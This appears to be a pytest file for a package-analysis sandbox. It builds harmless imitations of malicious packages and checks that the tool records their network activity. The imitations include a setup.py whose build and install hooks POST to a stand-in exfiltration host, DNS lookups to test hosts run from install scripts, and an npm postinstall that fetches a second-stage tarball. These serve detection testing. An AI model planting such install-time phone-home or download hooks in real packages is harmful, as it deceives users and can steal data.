"""Harmless imitations of the shapes real malicious packages take (issue 10's "Done when"), run
end to end offline: each must reach its "payload" (a lookup or a request to a test host of the
fake network) and the record must show it in `notable`, with no `phase_note`.

Every package is built from source in tmp_path; the hosts are `*.osptrack-test.example.com`
(answered by the fake DNS) or `*.osptrack-test.example` (NXDOMAIN: the query is the evidence).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from builders import EXFIL_HOST, EXFIL_PORT, make_npm, make_sdist, make_wheel
from osptrack.registry.service import RegistryConfig
from osptrack.run import AnalyzeOptions, RunOutcome, analyze
from osptrack.sandbox.persona import python_site_host
from osptrack.target import parse_target

pytestmark = pytest.mark.sandbox


def run(
    tmp_path: Path, eco: str, target: str, deps: tuple[Path, ...] = (), **kw: Any
) -> tuple[RunOutcome, dict]:
    options = AnalyzeOptions(
        timeout_s=180, deps_dirs=deps, registry=RegistryConfig(cache_root=tmp_path / "cache"), **kw
    )
    out = tmp_path / f"run-{len(list(tmp_path.glob('run-*')))}"
    outcome = analyze(parse_target(eco, target), options, out)
    return outcome, json.loads((out / "run.json").read_text())


def assert_reached(outcome: RunOutcome, info: dict, host: str, phase: str = "install") -> None:
    """The attacker indicator is in notable, the phase completed and nothing says it was cut short."""
    assert outcome.statuses[phase] == "completed", (info["phases"][phase], info["registry"])
    where = outcome.notable.get("dns", []) + outcome.notable.get("connections", [])
    assert any(host in line for line in where), outcome.notable
    assert not outcome.phase_notes and all("phase_note" not in p for p in info["phases"].values())
    assert info["registry"]["missing"] == [] and info["registry"]["errors"] == []


def test_setup_py_that_imports_requests_at_the_top_and_phones_home_in_a_cmdclass(tmp_path: Path) -> None:
    if python_site_host() is None:
        pytest.fail("the persona's Python packages are missing: run scripts/setup.sh")
    setup_py = f"""
        import requests  # at the top, as real ones do: a bare interpreter dies here
        from setuptools import setup
        from setuptools.command.build_py import build_py
        from setuptools.command.install import install

        def phone_home():
            try:
                requests.post("http://{EXFIL_HOST}:{EXFIL_PORT}/collect", data={{"h": "x"}}, timeout=5)
            except Exception as exc:
                print("osptrack-test:", exc)

        class Build(build_py):
            def run(self):
                phone_home()
                super().run()

        class Install(install):
            def run(self):
                phone_home()
                super().run()

        setup(name="osptrack-phone-home", version="1.0", py_modules=["phone_home"],
              install_requires=["requests"], cmdclass={{"build_py": Build, "install": Install}})
    """
    sdist = make_sdist(tmp_path, "osptrack-phone-home", "1.0", setup_py, {"phone_home.py": "X = 1\n"})
    outcome, info = run(tmp_path, "pypi", str(sdist), phases=("install",))
    assert_reached(outcome, info, EXFIL_HOST)
    assert any(f"{EXFIL_PORT}" in c for c in outcome.notable["connections"]), outcome.notable


def test_setuptools_scm_sdist_builds_offline_from_the_pinned_backends(tmp_path: Path) -> None:
    """`[build-system] requires` names setuptools_scm, which only the registry (its cache of
    pinned build backends) has; the version comes from PKG-INFO, as in every real sdist."""
    host = "scm-built.osptrack-test.example"
    pyproject = (
        '[build-system]\nrequires = ["setuptools>=64", "setuptools_scm>=8"]\n'
        'build-backend = "setuptools.build_meta"\n\n'
        '[project]\nname = "osptrack-scm-pkg"\ndynamic = ["version"]\n\n[tool.setuptools_scm]\n'
    )
    setup_py = f"""
        import socket
        try:
            socket.getaddrinfo("{host}", 443)
        except OSError:
            pass
        from setuptools import setup
        setup(py_modules=["osptrack_scm_pkg"])
    """
    sdist = make_sdist(tmp_path, "osptrack-scm-pkg", "2.3.1", setup_py,
                       {"pyproject.toml": pyproject, "osptrack_scm_pkg.py": "V = 1\n"})  # fmt: skip
    outcome, info = run(tmp_path, "pypi", str(sdist), phases=("install",))
    assert_reached(outcome, info, host)
    sources = {c["name"]: c["source"] for c in info["registry"]["closure"]}
    assert sources["setuptools-scm"] == "cache" and sources["setuptools"] == "cache", sources


def test_wheel_dependency_saved_as_zip_in_a_deps_dir_resolves_offline(tmp_path: Path) -> None:
    deps = tmp_path / "deps"
    deps.mkdir()
    host = "zipdep-ran.osptrack-test.example"
    code = f"import socket\ntry:\n    socket.getaddrinfo('{host}', 80)\nexcept OSError:\n    pass\n"
    wheel = make_wheel(deps, "osptrack-zipdep", "1.0", {"osptrack_zipdep.py": code})
    wheel.rename(deps / "osptrack-zipdep-1.0.zip")  # pip would take a .zip for an sdist and fail
    top = make_wheel(tmp_path, "osptrack-zipuser", "1.0", {"osptrack_zipuser.py": "import osptrack_zipdep\n"},
                     requires=("osptrack-zipdep==1.0",))  # fmt: skip
    outcome, info = run(tmp_path, "pypi", str(top), (deps,), phases=("install", "import"))
    assert_reached(outcome, info, host, phase="import")
    entry = next(c for c in info["registry"]["closure"] if c["name"] == "osptrack-zipdep")
    assert (entry["source"], entry["filename"]) == ("deps-dir", "osptrack_zipdep-1.0-py3-none-any.whl")


def test_wheel_named_zip_as_the_target_reaches_its_payload(tmp_path: Path) -> None:
    host = "zipped-target.osptrack-test.example"
    code = f"import socket\ntry:\n    socket.getaddrinfo('{host}', 80)\nexcept OSError:\n    pass\n"
    wheel = make_wheel(tmp_path, "osptrack-zipped-target", "1.0", {"osptrack_zipped_target.py": code})
    misnamed = wheel.rename(tmp_path / "payload.zip")
    outcome, info = run(tmp_path, "pypi", str(misnamed), phases=("install", "import"))
    assert_reached(outcome, info, host, phase="import")


def test_two_versions_of_one_npm_dependency_reach_the_postinstall(tmp_path: Path) -> None:
    """express's shape (debug@2 needs ms@2.0.0, the top level has ms@2.1.3), built small: npm must
    nest the second version, which a flat list of tarballs cannot express."""
    deps = tmp_path / "deps"
    deps.mkdir()
    for v in ("1.0.0", "2.0.0"):
        make_npm(deps, "osptrack-ms", v, {"index.js": f"exports.major = '{v[0]}';\n"})
    make_npm(deps, "osptrack-debug", "1.0.0", {"index.js": "exports.major = require('osptrack-ms').major;\n"},
             extra={"dependencies": {"osptrack-ms": "2.0.0"}})  # fmt: skip
    post = (
        "const top = require('osptrack-ms').major, nested = require('osptrack-debug').major;\n"
        "require('dns').lookup(`ms${top}-ms${nested}.osptrack-test.example`, () => {});\n"
    )
    top = make_npm(tmp_path, "osptrack-nested", "1.0.0", {"post.js": post, "index.js": ""},
                   scripts={"postinstall": "node post.js"},
                   extra={"dependencies": {"osptrack-ms": "^1.0.0", "osptrack-debug": "1.0.0"}})  # fmt: skip
    outcome, info = run(tmp_path, "npm", str(top), (deps,), phases=("install",))
    assert_reached(outcome, info, "ms1-ms2.osptrack-test.example")


def test_postinstall_downloading_from_the_real_registry_host_is_notable(tmp_path: Path) -> None:
    """npm itself only talks to the registry service; a registry.npmjs.org request from a
    lifecycle script is the package's own (a second stage from a trusted-looking host)."""
    post = (
        "require('https').get('https://registry.npmjs.org/osptrack-stage2/-/stage2.tgz', r => r.resume())"
        ".on('error', () => {});\n"
    )
    top = make_npm(tmp_path, "osptrack-own-fetch", "1.0.0", {"post.js": post, "index.js": ""},
                   scripts={"postinstall": "node post.js"})  # fmt: skip
    outcome, info = run(tmp_path, "npm", str(top), phases=("install",))
    assert_reached(outcome, info, "registry.npmjs.org")
    assert any("registry.npmjs.org" in c and ":443" in c for c in outcome.notable["connections"]), (
        outcome.notable
    )
